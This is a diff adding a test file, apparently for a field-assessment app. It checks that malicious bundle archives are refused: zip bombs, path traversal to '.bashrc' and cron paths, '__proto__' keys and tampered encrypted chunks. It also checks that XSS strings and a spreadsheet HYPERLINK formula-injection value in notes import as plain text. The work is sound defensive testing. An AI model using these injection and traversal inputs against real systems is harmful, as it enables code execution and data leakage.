@@ -1,0 +1,167 @@
+/**
+ * Hostile and broken bundles, each a real file under test/fixtures/bundles (made by
+ * scripts/make-bundle-fixtures.ts): each is refused with its own code and a message naming the
+ * problem, quickly, and the database is byte-for-byte unchanged afterwards. Valid bundles with
+ * script and HTML in their notes import as plain text.
+ */
+import 'fake-indexeddb/auto';
+import { readFileSync, readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { deriveBundleKey, type BundleKey } from '../../src/exchange/bundle/encryption';
+import { fromBase64 } from '../../src/exchange/bundle/bytes';
+import type { BundleLimits } from '../../src/exchange/bundle/limits';
+import type { BundleProblemCode } from '../../src/exchange/bundle/problem';
+import { readBundle } from '../../src/exchange/bundle/readBundle';
+import { applyImport, previewImport } from '../../src/exchange/importBundle';
+import { loadAssessment } from '../../src/storage/loadAssessment';
+import { ASSESSMENT_ID, OBSERVATION_ID } from './support/bundleTestKit';
+import { assessmentInput, dumpDatabase, openTestStore, unwrap, type TestStore } from './support/storageTestKit';
+import JSZip from 'jszip';
+
+const DIR = 'test/fixtures/bundles';
+const fixture = (name: string) => new Uint8Array(readFileSync(join(DIR, name)));
+const PASSPHRASE = readFileSync(join(DIR, 'passphrase.txt'), 'utf8').replace(/\n$/, '');
+
+let key: BundleKey;
+let device: TestStore;
+beforeAll(async () => {
+  // Every encrypted fixture shares one salt: derive its key once for the whole file.
+  const header = JSON.parse(await (await JSZip.loadAsync(fixture('encrypted.mmdma.zip'))).file('manifest.json')!.async('string')) as {
+    encryption: { salt: string; iterations: number };
+  };
+  key = await deriveBundleKey(PASSPHRASE, { salt: fromBase64(header.encryption.salt)!, iterations: header.encryption.iterations });
+  // A device that already holds another assessment: nothing of it may change.
+  device = openTestStore({ seed: 5, label: 'hostile' });
+  unwrap(await device.store.createRecord('assessment', assessmentInput({ title: 'Eswatini 2024', country: 'Eswatini' })));
+});
+afterAll(async () => {
+  await device.db.delete();
+});
+
+const MMDMA_1 = [{ id: 'mmdma', version: '1.0.0' }];
+
+interface Refusal {
+  readonly file: string;
+  readonly code: BundleProblemCode;
+  readonly message: RegExp;
+  readonly limits?: Partial<BundleLimits>;
+}
+
+const REFUSED: readonly Refusal[] = [
+  { file: 'empty.mmdma.zip', code: 'not-a-zip', message: /too short/ },
+  { file: 'not-a-zip.mmdma.zip', code: 'not-a-zip', message: /not a bundle/ },
+  { file: 'truncated.mmdma.zip', code: 'truncated', message: /cut short/ },
+  { file: 'checksum-mismatch.mmdma.zip', code: 'checksum-mismatch', message: /blobs\/daeb44b6.* does not match its SHA-256/ },
+  { file: 'missing-manifest.mmdma.zip', code: 'missing-manifest', message: /no "manifest\.json"/ },
+  { file: 'invalid-manifest.mmdma.zip', code: 'invalid-manifest', message: /bundleId: must be a lower-case UUID/ },
+  { file: 'unlisted-entry.mmdma.zip', code: 'manifest-mismatch', message: /"blobs\/readme\.txt", which the manifest does not list/ },
+  { file: 'unknown-format.mmdma.zip', code: 'unsupported-format', message: /format "some-other-tool"/ },
+  { file: 'newer-format.mmdma.zip', code: 'newer-app', message: /MMDMA Field 3\.0\.0 in bundle format 2.*Update MMDMA Field/ },
+  { file: 'newer-schema.mmdma.zip', code: 'newer-app', message: /record schema 2.*Update MMDMA Field/ },
+  { file: 'framework-mismatch.mmdma.zip', code: 'framework-mismatch', message: /mmdma 2\.0\.0/ },
+  { file: 'zip-bomb-ratio.mmdma.zip', code: 'zip-bomb', message: /"changes\/000002\.ndjson" would inflate 1028×/ },
+  { file: 'zip-bomb-size-lie.mmdma.zip', code: 'zip-bomb', message: /inflates to more than the 7308 bytes its header declares/ },
+  { file: 'overlapping-entries.mmdma.zip', code: 'zip-bomb', message: /overlaps the next entry/ },
+  { file: 'many-entries.mmdma.zip', code: 'zip-bomb', message: /33 entries; a bundle may have at most 20/, limits: { MAX_ENTRIES: 20 } },
+  { file: 'many-entries.mmdma.zip', code: 'zip-bomb', message: /more than 10000 bytes uncompressed/, limits: { MAX_TOTAL_BYTES: 10_000 } },
+  { file: 'oversize-entry.mmdma.zip', code: 'oversize-entry', message: /"blobs\/huge" declares 629145600 bytes/ },
+  { file: 'path-traversal.mmdma.zip', code: 'unsafe-path', message: /"\.\.\/\.\.\/\.bashrc" climbs out/ },
+  { file: 'absolute-path.mmdma.zip', code: 'unsafe-path', message: /"\/etc\/cron\.d\/mmdma" is an absolute path/ },
+  { file: 'backslash-path.mmdma.zip', code: 'unsafe-path', message: /contains a backslash/ },
+  { file: 'drive-letter-path.mmdma.zip', code: 'unsafe-path', message: /starts with a drive letter/ },
+  { file: 'duplicate-entry.mmdma.zip', code: 'duplicate-entry', message: /"manifest\.json" appears twice/ },
+  { file: 'duplicate-case.mmdma.zip', code: 'duplicate-entry', message: /differ only in case/ },
+  { file: 'zip-encryption.mmdma.zip', code: 'unsupported-zip-feature', message: /zip encryption/ },
+  { file: 'invalid-changes.mmdma.zip', code: 'invalid-changes', message: /line 4 is not a valid change: hlc must be a timestamp/ },
+  { file: 'invalid-json-line.mmdma.zip', code: 'invalid-changes', message: /line 6 is not valid JSON/ },
+  { file: 'proto-key.mmdma.zip', code: 'invalid-changes', message: /line 8 has a "__proto__" key at value/ },
+  { file: 'proto-key-top.mmdma.zip', code: 'invalid-changes', message: /line 3 has a "__proto__" key at the top level/ },
+  { file: 'out-of-scope.mmdma.zip', code: 'out-of-scope', message: /changes observation 01900000-0000-7000-8000-0000000000f1 of assessment/ },
+  { file: 'encrypted-tampered.mmdma.zip', code: 'tampered', message: /"enc\/000002" fails authentication/ },
+  { file: 'encrypted-reordered-chunks.mmdma.zip', code: 'tampered', message: /"enc\/000002" fails authentication/ },
+  { file: 'encrypted-truncated-chunks.mmdma.zip', code: 'tampered', message: /takes 8248 bytes in the zip; the manifest says 10084/ },
+  { file: 'encrypted-swapped-entries.mmdma.zip', code: 'tampered', message: /the manifest says/ },
+];
+
+describe('a hostile or broken bundle', () => {
+  it('covers every fixture file', () => {
+    const covered = new Set([...REFUSED.map((r) => r.file), 'valid.mmdma.zip', 'valid-b.mmdma.zip', 'encrypted.mmdma.zip', 'html-notes.mmdma.zip', 'framework-minor.mmdma.zip']);
+    expect(readdirSync(DIR).filter((f) => f.endsWith('.zip')).filter((f) => !covered.has(f))).toEqual([]);
+  });
+
+  it.each(REFUSED)('$file is refused ($code), quickly, and nothing is written', async ({ file, code, message, limits }) => {
+    const before = await dumpDatabase(device.db);
+    const started = performance.now();
+    const read = await readBundle(fixture(file), { key, frameworks: MMDMA_1, ...(limits === undefined ? {} : { limits }) });
+    expect(performance.now() - started).toBeLessThan(2_000);
+    expect(read.ok).toBe(false);
+    if (read.ok) return;
+    expect(read.error.code).toBe(code);
+    expect(read.error.message).toMatch(message);
+    // The same bytes handed over as a File-like Blob give the same answer.
+    const fromBlob = await readBundle(new Blob([fixture(file)]), { key, frameworks: MMDMA_1, ...(limits === undefined ? {} : { limits }) });
+    expect(!fromBlob.ok && fromBlob.error).toEqual(read.error);
+    expect(await dumpDatabase(device.db)).toEqual(before);
+  });
+
+  it('is refused with the wrong passphrase, and says so', async () => {
+    const read = await readBundle(fixture('encrypted.mmdma.zip'), { passphrase: `${PASSPHRASE}.` });
+    expect(!read.ok && read.error).toMatchObject({ code: 'wrong-passphrase', message: expect.stringMatching(/passphrase does not open/) });
+  });
+
+  it('from another framework is refused by a device whose assessment uses another major version', async () => {
+    const b = openTestStore({ seed: 6, label: 'framework' });
+    try {
+      const valid = unwrap(await readBundle(fixture('valid.mmdma.zip')));
+      unwrap(await applyImport(b.store, b.db, valid));
+      const before = await dumpDatabase(b.db);
+      const v2 = unwrap(await readBundle(fixture('framework-mismatch.mmdma.zip')));
+      const preview = await previewImport(b.store, b.db, v2);
+      expect(!preview.ok && preview.error).toMatchObject({ code: 'framework-mismatch', message: expect.stringMatching(/different major versions/) });
+      const applied = await applyImport(b.store, b.db, v2);
+      expect(!applied.ok && applied.error.code).toBe('framework-mismatch');
+      expect(await dumpDatabase(b.db)).toEqual(before);
+
+      // A minor version up keeps its ids: imported, with a note saying so.
+      const minor = unwrap(await readBundle(fixture('framework-minor.mmdma.zip')));
+      const previewMinor = unwrap(await previewImport(b.store, b.db, minor));
+      expect(previewMinor.frameworkNote).toMatch(/same major version, so its ids are kept/);
+      unwrap(await applyImport(b.store, b.db, minor));
+    } finally {
+      await b.db.delete();
+    }
+  });
+});
+
+describe('script and HTML in notes', () => {
+  it('are imported as the text they are, character for character', async () => {
+    // A day after the fixture's edits: a device's clock must not be behind what it imports.
+    const b = openTestStore({ seed: 7, label: 'html', start: Date.UTC(2022, 9, 4, 9, 0, 0) });
+    try {
+      const bundle = unwrap(await readBundle(fixture('html-notes.mmdma.zip')));
+      expect(unwrap(await applyImport(b.store, b.db, bundle)).invalid).toBe(0);
+      const snapshot = unwrap(await loadAssessment(b.db, ASSESSMENT_ID));
+      const note = snapshot.records.observation.find((o) => o.id === OBSERVATION_ID)!;
+      expect(note.text).toBe('<script>alert("notes")</script><img src=x onerror="alert(1)"> Ministry said: <b>no</b> & "maybe"');
+      expect(snapshot.records.rating[0]!.rationale).toBe('=HYPERLINK("http://example.invalid/?"&A1,"click")');
+    } finally {
+      await b.db.delete();
+    }
+  });
+
+  it('cannot run in the app: no screen turns data into HTML', () => {
+    // Preact renders strings as text nodes; only these APIs would parse them as markup.
+    const markup = /dangerouslySetInnerHTML|\.innerHTML\s*=|outerHTML\s*=|insertAdjacentHTML|document\.write/;
+    const files: string[] = [];
+    const walk = (dir: string) => {
+      for (const entry of readdirSync(dir, { withFileTypes: true })) {
+        const path = join(dir, entry.name);
+        if (entry.isDirectory()) walk(path);
+        else if (/\.(ts|tsx)$/.test(entry.name)) files.push(path);
+      }
+    };
+    walk('src');
+    for (const file of files) expect(readFileSync(file, 'utf8'), file).not.toMatch(markup);
+  });
+});
